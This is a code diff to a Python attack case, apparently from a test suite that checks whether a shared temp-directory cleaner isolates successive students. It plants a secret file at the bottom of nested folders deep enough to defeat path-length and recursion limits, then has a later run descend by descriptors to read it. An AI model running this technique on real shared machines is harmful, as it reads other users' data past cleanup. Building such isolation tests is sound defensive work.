@@ -2,16 +2,17 @@
 """deep-tree.py - work at the bottom of a well.
 
 Goal: another student's work.
-Means: 1900 folders, each inside the last, and a file in the innermost. A cleaner that works with
-paths meets ENAMETOOLONG after 4096 bytes; one that calls itself per level meets its recursion limit
-(Python's rmtree before 3.13). The thief walks down with one descriptor in each hand.
+Means: 1900 folders, each inside the last, or as many as there may be, and a file in the innermost. A
+cleaner that works with paths meets ENAMETOOLONG after 4096 bytes; one that calls itself per level
+meets its recursion limit (Python's rmtree before 3.13). The thief walks down with one descriptor in
+each hand.
 """
 
 import os
 
 from attack import DONE, attempting, denied, failed, loot
 
-LEVELS = 1900
+LEVELS, DEEP = 1900, 300
 STEP = "one-level-further-down"
 
 
@@ -26,8 +27,11 @@ def run(brief):
     attempting()
     try:
         here = os.open(f"/tmp/{brief.name}", os.O_RDONLY | os.O_DIRECTORY)
-        for _ in range(LEVELS):
-            here = down(here, STEP)
+        try:
+            while True:
+                here = down(here, STEP)
+        except FileNotFoundError:
+            pass  # the bottom
         loot(os.read(os.open("work", os.O_RDONLY, dir_fd=here), 256))
     except OSError as why:
         return denied("open", why)
@@ -35,13 +39,21 @@ def run(brief):
 
 
 def dig(top, brief):
+    """Work first, while there is room for a file, then make the well and let it down."""
     os.mkdir(top, 0o700)
-    here = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
-    for _ in range(LEVELS):
-        os.mkdir(STEP, 0o700, dir_fd=here)
-        here = down(here, STEP)
-    fd = os.open("work", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=here)
+    mouth = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
+    here = os.dup(mouth)
+    fd = os.open("work", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=mouth)
     os.write(fd, brief.secret.encode())
+    for level in range(LEVELS):
+        try:
+            os.mkdir(STEP, 0o700, dir_fd=here)
+        except OSError:
+            if level < DEEP:
+                raise
+            break
+        here = down(here, STEP)
+    os.rename("work", "work", src_dir_fd=mouth, dst_dir_fd=here)
 
 
 def victim(brief):
@@ -56,7 +68,7 @@ def victim(brief):
 
 ATTACK = {
     "effect": "the next student reads the last one's file",
-    "means": "a file 1900 folders deep, beyond PATH_MAX and every recursion limit",
+    "means": "a file 1900 folders deep, or as many as there may be, beyond PATH_MAX",
     "oracle": "secret:victim",
     "scene": "after-victim",
     "id": "TMPS-05",
